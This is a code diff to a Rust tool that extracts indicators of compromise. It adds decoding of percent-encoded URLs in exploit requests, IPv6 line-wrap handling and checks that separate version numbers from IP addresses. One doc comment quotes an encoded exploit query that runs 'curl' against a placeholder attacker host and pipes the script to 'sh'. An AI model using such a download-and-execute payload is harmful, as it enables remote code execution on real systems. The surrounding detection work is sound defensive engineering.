@@ -564,7 +564,7 @@ impl Extractor {
                 && matches!(bytes.get(end), Some(b'\n' | b'\r'))
                 && matches!(
                     bytes.get(end - 1),
-                    Some(b']' | b')' | b'}' | b'@' | b'-' | b'.' | b'/' | b'?' | b'&')
+                    Some(b']' | b')' | b'}' | b'@' | b'-' | b'.' | b'/' | b'?' | b'&' | b':')
                 )
             {
                 if let Some(wrap) = wrapped_continuation(bytes, start, end) {
@@ -816,6 +816,11 @@ impl Extractor {
             }
         }
         if slash && matches!(rb.first(), Some(b'/' | b'~')) {
+            if memchr::memchr(b'%', rb).is_some() {
+                if let Some(m) = self.encoded_url(&ctx) {
+                    return Some(m);
+                }
+            }
             if let Some(m) = self.unix_path(&ctx) {
                 return Some(m);
             }
@@ -1489,6 +1494,48 @@ impl Extractor {
             Indicator::FilePath(full.parse().ok()?)
         };
         self.make(ctx, 0, e - ctx.start, indicator, false)
+    }
+
+    /// `/index.php?…vars[1][]=curl%20-s%20https%3A%2F%2Fdl.evil.cc%2Ft.sh%7Csh`:
+    /// a URL percent-encoded in a request's path or query (the command an
+    /// exploit sends) is what the request carries; its span is the encoded
+    /// run, up to an escape of what ends a URL in a command (a space, `|`,
+    /// `;`, a quote) or the query's next `&`. `defanged` is true: the text
+    /// does not show the URL as it is.
+    fn encoded_url(&self, ctx: &Ctx<'_>) -> Option<Match> {
+        let rb = ctx.raw.as_bytes();
+        let sep = find_ci(rb, b"%3a%2f%2f")?;
+        let s = sep - rb.get(..sep)?.iter().rev().take_while(|b| b.is_ascii_alphabetic()).count();
+        let scheme = ctx.raw.get(s..sep)?;
+        if !URL_SCHEMES.iter().any(|k| k.eq_ignore_ascii_case(scheme)) {
+            return None;
+        }
+        let mut e = sep + 9;
+        while let Some(&b) = rb.get(e) {
+            if matches!(b, b'&' | b'"' | b'\'' | b'<' | b'>' | b'+' | b'|' | b';' | b'`') {
+                break;
+            }
+            if b == b'%' {
+                let escaped = rb
+                    .get(e + 1..e + 3)
+                    .and_then(|h| std::str::from_utf8(h).ok())
+                    .and_then(|h| u8::from_str_radix(h, 16).ok());
+                if escaped.is_some_and(|c| {
+                    c.is_ascii_whitespace()
+                        || matches!(c, b'|' | b';' | b'"' | b'\'' | b'<' | b'>' | b'`')
+                }) {
+                    break;
+                }
+            }
+            e += 1;
+        }
+        let encoded = ctx.raw.get(s..e)?;
+        let decoded = percent_encoding::percent_decode_str(encoded).decode_utf8().ok()?;
+        let url: Url = decoded.parse().ok()?;
+        if !host_facts(url.host()?).ok {
+            return None;
+        }
+        self.make(ctx, s, e, Indicator::Url(url), true)
     }
 
     fn unix_path(&self, ctx: &Ctx<'_>) -> Option<Match> {
@@ -2992,7 +3039,12 @@ fn wrapped_continuation(bytes: &[u8], start: usize, end: usize) -> Option<Wrap> 
     // A URL cut at the end of its path or inside its query (`…/assets/`,
     // `…/AllItems.aspx?`, `…?id=1&`).
     let slash = matches!(seg.last(), Some(b'/' | b'?' | b'&')) && holds(b"://") && seg.len() > 8;
-    if !(marker || hyphen || www || slash || host_dot) {
+    // `2a0d:5600:24:` / `af1::3c`: an IPv6 address cut after a colon
+    // (checked below: the next line goes on in hex and colons).
+    let v6 = seg.last() == Some(&b':')
+        && seg.iter().filter(|&&b| b == b':').count() >= 2
+        && seg.iter().all(|b| b.is_ascii_hexdigit() || *b == b':');
+    if !(marker || hyphen || www || slash || host_dot || v6) {
         return None;
     }
     // In a quoted reply (`> …`), the next line's quote marks go before it.
@@ -3029,6 +3081,13 @@ fn wrapped_continuation(bytes: &[u8], start: usize, end: usize) -> Option<Wrap> 
         || cont.windows(3).any(|w| w == b"://" || w == b"[:]")
     {
         return None;
+    }
+    if v6 {
+        // The rest of the address, up to what ends it in prose.
+        let rest = cont.iter().take_while(|b| b.is_ascii_hexdigit() || **b == b':').count();
+        return (rest >= 1
+            && cont.get(rest).is_none_or(|b| matches!(b, b',' | b'.' | b')' | b';')))
+        .then_some(Wrap { cs, ce, after_path: false });
     }
     // After a host's dot: a top-level label and a path (`com/view/…`), not
     // the next sentence (`Now we …`).
@@ -4420,6 +4479,33 @@ fn is_registry_start(raw: &str) -> bool {
         .any(|p| head.get(..p.len()).is_some_and(|h| h.eq_ignore_ascii_case(p.as_bytes())))
 }
 
+/// Whether the field before a key (`head` is what precedes the key
+/// `key`) holds a version: a dotted number no address could be
+/// (`1.429.211.0`), or one under a version word. A status line lists its
+/// parts' versions that way (`Engine version: 1.1.25040.1, AS/AV
+/// signatures: 1.429.211.0, NIS: 1.249.11.0`); a network word as the key
+/// still says address (`C2: 5.61.33.7`).
+fn after_version_field(head: &str, key: &str) -> bool {
+    if NETWORK_WORDS.iter().any(|w| w.eq_ignore_ascii_case(key)) {
+        return false;
+    }
+    let head = head.trim_end();
+    let Some(head) = head.strip_suffix([',', ';', '|']) else { return false };
+    let head = head.trim_end();
+    let value_len = head.bytes().rev().take_while(|b| b.is_ascii_digit() || *b == b'.').count();
+    let (field, value) = head.split_at(head.len() - value_len);
+    let parts: Vec<&str> = value.split('.').collect();
+    if parts.len() < 3 || parts.iter().any(|p| p.is_empty() || p.len() > 6) {
+        return false;
+    }
+    let no_address =
+        parts.len() != 4 || parts.iter().any(|p| p.parse::<u32>().map_or(true, |n| n > 255));
+    let field = field.trim_end().trim_end_matches([':', '=']).trim_end();
+    let field_word = field.rsplit(|c: char| !c.is_alphanumeric()).next().unwrap_or_default();
+    no_address
+        || VERSION_WORDS.iter().any(|v| v.trim_end_matches('.').eq_ignore_ascii_case(field_word))
+}
+
 fn windows_like(raw: &str) -> bool {
     let b = raw.as_bytes();
     matches!(b, [d, b':', b'\\', ..] if d.is_ascii_alphabetic())
@@ -4454,7 +4540,8 @@ fn looks_like_version(ctx: &Ctx<'_>, octets: [u8; 4]) -> bool {
         let word = key.rsplit(|c: char| !c.is_alphanumeric()).next().unwrap_or_default();
         // Not the `PRODUCT_PARTS`: `agent: 198.51.100.4` is where the
         // agent connects.
-        return VERSION_WORDS.iter().any(|v| v.trim_end_matches('.').eq_ignore_ascii_case(word));
+        return VERSION_WORDS.iter().any(|v| v.trim_end_matches('.').eq_ignore_ascii_case(word))
+            || after_version_field(key.get(..key.len() - word.len()).unwrap_or_default(), word);
     }
     // `微信版本（本次样本中为3.9.8.25）`: a version word shortly before, in
     // Chinese or Japanese.
@@ -4464,7 +4551,8 @@ fn looks_like_version(ctx: &Ctx<'_>, octets: [u8; 4]) -> bool {
             near_from += 1;
         }
         let near = prev.get(near_from..).unwrap_or_default();
-        if ["版本", "バージョン", "ビルド", "版号"].iter().any(|w| near.contains(w)) {
+        if ["版本", "バージョン", "ビルド", "版号", "버전", "빌드"].iter().any(|w| near.contains(w))
+        {
             return true;
         }
     }
